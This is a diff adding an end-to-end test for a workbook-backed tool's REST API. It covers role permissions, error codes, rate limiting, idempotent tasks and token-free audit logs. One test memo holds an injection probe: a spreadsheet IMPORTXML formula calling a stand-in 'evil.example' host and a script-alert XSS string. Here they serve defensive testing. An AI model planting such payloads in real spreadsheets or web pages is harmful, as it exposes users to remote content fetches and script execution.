@@ -1,0 +1,185 @@
+// Seed 002's REST API end to end: `kaigi serve` over real HTTP, each call following Apps Script's 302 as a client does.
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { demoTrigger } from '../../src/core/demo-data.js';
+import { kaigi, type Served, serve } from './serve-process.js';
+
+const ROLES = ['viewer', 'worker', 'coordinator', 'admin'] as const;
+type Role = (typeof ROLES)[number];
+
+let dir: string;
+let book: string;
+let served: Served;
+let exec: string;
+const tokens = {} as Record<Role | 'burst', string>;
+
+function makeToken(name: string, role: Role): string {
+  const r = kaigi(['token', 'create', '--workbook', book, '--role', role, '--name', name]);
+  expect(r.status, r.stderr).toBe(0);
+  return r.stdout.trim().split('\n').pop()!;
+}
+
+// POST with the token in the body; fetch follows the 302 to the echo URL with a GET, as curl -L does.
+async function post(route: string, token: string | null, body: unknown, raw?: string): Promise<any> {
+  const res = await fetch(`${exec}?path=${encodeURIComponent(route)}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: raw ?? JSON.stringify(token ? { token, ...(body as object) } : body),
+  });
+  expect(res.status).toBe(200);
+  expect(res.redirected).toBe(true);
+  return res.json();
+}
+
+// GET with the token in the query: Apps Script leaves no other way for a GET.
+async function get(route: string, token: string | null, query: Record<string, string> = {}): Promise<any> {
+  const q = new URLSearchParams({ path: route, ...query, ...(token ? { token } : {}) });
+  const res = await fetch(`${exec}?${q}`);
+  expect(res.status).toBe(200);
+  return res.json();
+}
+
+async function until<T>(fn: () => Promise<T>, ok: (v: T) => boolean, ms = 150_000): Promise<T> {
+  const stop = Date.now() + ms;
+  for (;;) {
+    const v = await fn();
+    if (ok(v) || Date.now() > stop) return v;
+    await new Promise((r) => setTimeout(r, 500));
+  }
+}
+
+beforeAll(async () => {
+  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kaigi-serve-api-'));
+  book = path.join(dir, 'api.xlsx');
+  // The demo team and one decided discussion, then a client per role.
+  expect(kaigi(['run', '--demo', '--workbook', book]).status).toBe(0);
+  for (const role of ROLES) tokens[role] = makeToken(`c-${role}`, role);
+  tokens.burst = makeToken('burst', 'viewer');
+  // One-shot triggers may fire up to 2 s late here instead of 3 minutes, so the test waits seconds, not minutes.
+  served = await serve(book, '--after-max-ms', '2000');
+  exec = `${served.url}/exec`;
+}, 180_000);
+
+afterAll(async () => {
+  if (served) await served.stop('SIGTERM');
+  fs.rmSync(dir, { recursive: true, force: true });
+});
+
+describe('the REST API on kaigi serve', () => {
+  it('lets each role call exactly the routes of its role table', async () => {
+    const status = await get('/status', tokens.viewer);
+    expect(status).toMatchObject({ status: 200, state: expect.stringMatching(/^(idle|busy)$/) });
+    expect(status.agents).toHaveLength(14);
+    for (const a of status.agents) expect(['idle', 'busy', 'error']).toContain(a.state ?? a.status);
+    expect(status.budget.tokens).toBeGreaterThan(0);
+    expect(status.queue).toBeDefined();
+    // An empty body: an allowed role gets past the role check to the schema (400), a refused one gets 403; nothing
+    // is written either way.
+    const table: { route: string; method: 'GET' | 'POST'; roles: Role[] }[] = [
+      { method: 'GET', route: '/status', roles: [...ROLES] },
+      { method: 'GET', route: '/tasks/Q-1', roles: [...ROLES] },
+      { method: 'GET', route: '/rooms', roles: [...ROLES] },
+      { method: 'POST', route: '/tasks', roles: ['coordinator', 'admin'] },
+      { method: 'POST', route: '/tasks/Q-1/result', roles: ['worker', 'coordinator', 'admin'] },
+      { method: 'POST', route: '/objections', roles: ['coordinator', 'admin'] },
+      { method: 'POST', route: '/escalations/DISC-2026-01-01-001', roles: ['coordinator', 'admin'] },
+      { method: 'POST', route: '/rooms', roles: ['worker', 'coordinator', 'admin'] },
+      { method: 'POST', route: '/rooms/x/clear', roles: ['coordinator', 'admin'] },
+    ];
+    for (const { route, method, roles } of table)
+      for (const role of ROLES) {
+        const a = method === 'GET' ? await get(route, tokens[role]) : await post(route, tokens[role], {});
+        if (roles.includes(role)) expect(a.status, `${role} ${method} ${route}`).not.toBe(403);
+        else
+          expect(a, `${role} ${method} ${route}`).toMatchObject({
+            status: 403,
+            error: { code: 'forbidden' },
+          });
+      }
+  });
+
+  it('answers 401, 400 naming the field, 413 and 429 in SPEC §11’s format', async () => {
+    expect(await get('/status', null)).toMatchObject({ status: 401, error: { code: 'unauthorized' } });
+    expect(await get('/status', 'kaigi_not-a-token')).toMatchObject({ status: 401 });
+    expect(await post('/tasks', null, {}, '{"token": "x", broken')).toMatchObject({
+      status: 400,
+      error: { code: 'invalid_json' },
+    });
+    const missing = await post('/tasks', tokens.coordinator, { type: 'kpi_decline', context: {} });
+    expect(missing.status).toBe(400);
+    expect(JSON.stringify(missing.error.details)).toContain('target_user_id');
+    const big = await post('/tasks', tokens.coordinator, { ...demoTrigger(), context: { memo: 'x'.repeat(100_001) } });
+    expect(big).toMatchObject({ status: 413, error: { code: 'payload_too_large' } });
+    // Settings api.rate_limit_per_minute is 60: the 61st call of one token within a minute is refused.
+    const answers: number[] = [];
+    for (let i = 0; i < 61; i++) answers.push((await get('/status', tokens.burst)).status);
+    expect(answers.slice(0, 55).every((s) => s === 200)).toBe(true);
+    expect(answers[60]).toBe(429);
+    // Another client is not slowed by it.
+    expect((await get('/status', tokens.viewer)).status).toBe(200);
+  });
+
+  it('starts a discussion once per idempotency key, runs it to DECIDED on the real clock, and takes a result report', async () => {
+    const trigger = {
+      ...demoTrigger(),
+      context: { ...demoTrigger().context, memo: '=IMPORTXML("http://evil.example/","//a") <script>alert(1)</script>' },
+    };
+    const first = await post('/tasks', tokens.coordinator, { ...trigger, idempotency_key: 'crm-42' });
+    expect(first).toMatchObject({ status: 202, task_id: expect.stringMatching(/^Q-\d+$/) });
+    expect(first.discussion_id).toMatch(/^DISC-\d{4}-\d{2}-\d{2}-\d{3,}$/);
+    const again = await post('/tasks', tokens.coordinator, { ...trigger, idempotency_key: 'crm-42' });
+    expect(again).toEqual(first);
+
+    const decided = await until(
+      () => get(`/tasks/${first.discussion_id}`, tokens.viewer),
+      (v) => v.state === 'DECIDED',
+    );
+    expect(decided.state).toBe('DECIDED');
+    expect(decided.trigger.context.memo).toBe(trigger.context.memo);
+    expect(decided.phases).toHaveLength(6);
+    expect(decided.decision.decision_id).toBeTruthy();
+    expect(decided.orders.length).toBeGreaterThan(0);
+    expect(decided.orders.every((o: { status: string }) => o.status === 'PENDING')).toBe(true);
+    expect(decided.execution_status).toBe('PENDING');
+    // The task id answers too.
+    expect((await get(`/tasks/${first.task_id}`, tokens.viewer)).discussion_id).toBe(first.discussion_id);
+
+    const report = await post(`/tasks/${first.discussion_id}/result`, tokens.worker, {
+      status: 'ACKNOWLEDGED',
+      report: 'Scheduled the 1on1 <b>tomorrow</b>',
+      by: 'someone-else',
+    });
+    expect(report).toMatchObject({ status: 200, success: true, execution_status: 'ACKNOWLEDGED' });
+    const after = await get(`/tasks/${first.discussion_id}`, tokens.viewer);
+    expect(after.execution_status).toBe('ACKNOWLEDGED');
+    expect(after.orders.map((o: { status: string }) => o.status)).toEqual(decided.orders.map(() => 'ACKNOWLEDGED'));
+    expect(after.orders[0].last_report).toBe('Scheduled the 1on1 <b>tomorrow</b>');
+  }, 200_000);
+
+  it('saves on SIGTERM a workbook with an API Log row per call, the client as actor, no token, and an intact audit', async () => {
+    expect(await served.stop('SIGTERM')).toBe(0);
+    const log = JSON.parse(kaigi(['export', '--workbook', book, '--tab', 'API Log']).stdout);
+    expect(log.length).toBeGreaterThan(100);
+    expect(log.some((r: { call: string; status: number }) => r.call === 'POST /tasks' && r.status === 202)).toBe(true);
+    expect(log.some((r: { status: number }) => r.status === 429)).toBe(true);
+    expect(log.some((r: { status: number; client: string }) => r.status === 401 && r.client === '')).toBe(true);
+    const audit = JSON.parse(kaigi(['export', '--workbook', book, '--tab', 'Audit']).stdout) as Record<
+      string,
+      string
+    >[];
+    // The queued discussion names the client that asked; each order report names the client that reported.
+    expect(audit.some((r) => r.event === 'enqueue' && r.actor === 'api:c-coordinator')).toBe(true);
+    expect(audit.filter((r) => r.event === 'order_report').every((r) => r.actor === 'c-worker')).toBe(true);
+    expect(audit.some((r) => r.event === 'order_report')).toBe(true);
+    for (const tab of ['API Log', 'Audit', 'Queue', 'Orders', 'Discussion Log']) {
+      const text = kaigi(['export', '--workbook', book, '--tab', tab]).stdout;
+      for (const t of Object.values(tokens)) expect(text).not.toContain(t);
+    }
+    const verify = kaigi(['verify-audit', '--workbook', book]);
+    expect(verify.stdout).toMatch(/audit chain intact/);
+    expect(verify.status).toBe(0);
+    served = undefined as unknown as Served;
+  });
+});
